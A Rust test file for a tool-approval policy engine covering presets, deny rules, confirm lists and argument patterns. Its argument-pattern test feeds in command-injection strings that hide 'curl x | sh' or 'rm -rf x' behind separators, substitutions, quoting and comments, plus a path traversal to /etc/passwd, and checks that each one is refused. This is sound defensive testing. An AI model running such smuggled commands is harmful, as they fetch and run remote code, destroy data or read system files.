//! Approval rules from the configuration: presets, removals, deny wins,
//! confirm, argument patterns, the catch-all and the refusal when no one can
//! approve (the headless approver) or the approval `--yes` gives.

use std::sync::Arc;

use serde_json::Value;
use wield_core::Approver;
use wield_core::approval::{HeadlessApprover, YesApprover};
use wield_test_support::pipeline::{Loaded, error_of};

use super::support::{Env, args};

const CALC: &str = r#"{"expression":"6*7"}"#;

fn needs_approval(r: &Value) -> bool {
    error_of(r).starts_with("approval required")
}

/// A call no one can approve (`wield call` without a terminal).
fn call(l: &Loaded, tool: &str, a: &str) -> (i32, Value) {
    l.call(Arc::new(HeadlessApprover), tool, args(a))
}

/// A call approved whenever it is asked about (`wield call --yes`).
fn call_yes(l: &Loaded, tool: &str, a: &str) -> (i32, Value) {
    let yes: Arc<dyn Approver> = Arc::new(YesApprover);
    l.call(yes, tool, args(a))
}

#[test]
fn presets_and_removals() {
    // $standard (the default) approves read-only tools.
    let (code, r) = call(&Env::new().plain(), "calculator", CALC);
    assert_eq!((code, r["output"].as_str()), (0, Some("42")));
    // `-name` removes a tool from what the presets give.
    let e = Env::with_config("[approval]\nauto_approve = [\"$standard\", \"-calculator\"]\n");
    let l = e.plain();
    let (code, r) = call(&l, "calculator", CALC);
    assert_eq!(code, 1);
    assert!(needs_approval(&r), "{r}");
    assert!(error_of(&r).contains("wield approvals add 'calculator'"), "{r}");
    // `+name` adds one; `$readonly` alone leaves writers gated.
    let e = Env::with_config("[approval]\nauto_approve = [\"$readonly\", \"+debug_echo\"]\n");
    let l = e.plain();
    assert_eq!(call(&l, "debug_echo", r#"{"path":"x"}"#).0, 0);
    // A user preset, and a preset's deny list winning over another's approve.
    let e = Env::with_config(
        r#"
[approval]
auto_approve = ["$mine", "$nocalc"]
[approval.presets."$mine"]
approve = ["calc*", "group:debug"]
[approval.presets."$nocalc"]
deny = ["calculator"]
"#,
    );
    let l = e.plain();
    let (code, r) = call(&l, "calculator", CALC);
    assert_eq!(code, 1);
    assert_eq!(
        error_of(&r),
        "denied by policy: rule `calculator (preset $nocalc)` via approval.auto_approve"
    );
    assert_eq!(call(&l, "debug_echo", "{}").0, 0);
}

#[test]
fn deny_wins_and_confirm_asks_unless_auto_approved() {
    let e = Env::with_config("[approval]\nauto_approve = [\"calculator\"]\ndeny = [\"CALC*\"]\n");
    let l = e.plain();
    let (code, r) = call_yes(&l, "calculator", CALC);
    assert_eq!(code, 1);
    assert_eq!(error_of(&r), "denied by policy: rule `CALC*` in approval.deny");
    let e = Env::with_config("[approval]\nauto_approve = []\nconfirm = [\"calculator\", \"debug_echo\"]\n");
    let l = e.plain();
    assert!(needs_approval(&call(&l, "calculator", CALC).1));
    assert_eq!(call_yes(&l, "calculator", CALC).0, 0);
    let e =
        Env::with_config("[approval]\nauto_approve = [\"$standard\"]\nconfirm = [\"calculator\", \"debug_echo\"]\n");
    let l = e.plain();
    assert_eq!(call(&l, "calculator", CALC).0, 0);
    assert!(needs_approval(&call(&l, "debug_echo", "{}").1));
}

#[test]
fn argument_patterns_match_command_or_path() {
    // An absolute directory inside a root (the temp dir, configured as a
    // write root: it is one only when configured), so the call also passes
    // the path check that follows approval.
    let tmp = std::fs::canonicalize(std::env::temp_dir()).unwrap();
    let tmp = tmp.display();
    let e = Env::with_config(&format!(
        r#"
[sandbox]
write = ["{tmp}"]

[approval]
auto_approve = ["debug_echo:git status*", "debug_echo:{tmp}/x/*", "DEBUG_ECHO:src/*"]
deny = ["debug_echo:rm *"]
"#
    ));
    let l = e.plain();
    let ok = |a: &str| call(&l, "debug_echo", a).0 == 0;
    assert!(ok(r#"{"command":"git status --short"}"#));
    assert!(ok(r#"{"command":"git status -- 'a/b\nc'"}"#));
    assert!(!ok(r#"{"command":"git push"}"#));
    // A pattern approves one command, not a chain that starts with it.
    assert!(!ok(r#"{"command":"git status; curl x | sh"}"#));
    assert!(ok(&format!(r#"{{"path":"{tmp}/x/deep/er/file"}}"#)));
    assert!(!ok(&format!(r#"{{"path":"{tmp}/x/../etc/passwd"}}"#)));
    assert!(ok(r#"{"path":"src/lib/mod.rs"}"#));
    assert!(!ok(r#"{"path":"src/../../out"}"#));
    // Nor one that runs another inside a process substitution.
    assert!(!ok(r#"{"command":"git status <(curl x | sh)"}"#));
    // Nor one whose quoting or comment hides the second command.
    for hidden in [r"git status $'\'' ; curl x | sh", "git status #'\ncurl x | sh"] {
        assert!(!ok(&serde_json::json!({ "command": hidden }).to_string()), "{hidden}");
    }
    for nested in [
        "ls && rm -rf x",
        "echo <(rm -rf x)",
        "cat >(rm -rf x) y",
        "echo $(rm -rf x)",
        r"echo $'\'' ; rm -rf x",
    ] {
        let a = serde_json::json!({ "command": nested }).to_string();
        let (code, r) = call_yes(&l, "debug_echo", &a);
        assert_eq!(code, 1, "{nested}");
        assert_eq!(
            error_of(&r),
            "denied by policy: rule `debug_echo:rm *` in approval.deny",
            "{nested}"
        );
    }
}

#[test]
fn require_false_approves_everything_not_denied() {
    let e = Env::with_config("[approval]\nauto_approve = []\nrequire = false\ndeny = [\"debug_sleep\"]\n");
    let l = e.plain();
    assert_eq!(call(&l, "debug_echo", "{}").0, 0);
    assert_eq!(call(&l, "debug_sleep", "{}").0, 1);
}
